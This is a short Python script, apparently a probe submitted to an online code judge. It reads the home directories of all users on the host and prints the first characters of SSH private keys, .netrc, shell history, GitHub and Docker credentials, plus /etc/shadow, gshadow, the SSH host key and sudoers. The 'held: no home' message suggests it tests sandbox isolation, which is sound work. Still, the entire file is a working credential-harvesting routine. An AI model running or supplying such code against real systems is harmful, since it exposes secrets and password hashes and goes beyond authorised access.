"""Reads the home of whoever runs the judge: keys, tokens, histories."""
import json, os, pwd, sys

world = json.loads(input())
leaks = []
homes = {world["home"], "/root", os.path.expanduser("~")}
try:
    homes |= {entry.pw_dir for entry in pwd.getpwall()}
except OSError:
    pass
for home in homes:
    for name in (".ssh/id_ed25519", ".netrc", ".bash_history", ".profile", ".bashrc", ".gitconfig", ".config/gh/hosts.yml", ".docker/config.json"):
        try:
            leaks.append(os.path.join(home, name) + ": " + open(os.path.join(home, name)).read(50))
        except OSError:
            pass
for path in ("/etc/shadow", "/etc/gshadow", "/etc/ssh/ssh_host_ed25519_key", "/etc/sudoers"):
    try:
        leaks.append(path + ": " + open(path).read(10))
    except OSError:
        pass
print("LEAK: " + ", ".join(leaks) if leaks else "held: no home")
